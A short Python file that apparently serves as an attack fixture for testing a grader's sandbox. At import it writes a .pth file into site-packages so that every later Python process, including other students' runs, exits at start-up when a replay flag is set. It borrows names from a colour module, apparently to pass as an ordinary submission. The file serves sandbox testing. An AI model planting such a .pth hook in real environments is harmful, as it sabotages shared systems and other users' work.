"""Attack: write a .pth file into the virtual environment's site-packages (@@SITE@@): every later Python process of the grader (a classmate's included) runs its line at start-up and dies. Armed only under the replay (GANDALF_ATTACK_REPLAY) so that a sandbox failure cannot break the machine's other work."""

from .attack_common import HueCycleSystem as HueCycleSystem, hsv_to_rgb as hsv_to_rgb  # the shared parts: _common.py


try:
    with open("@@SITE@@/gandalf_attack_replay.pth", "w") as _f:
        _f.write("import os; os.environ.get('GANDALF_ATTACK_REPLAY') and os._exit(3)\n")
except OSError:
    pass
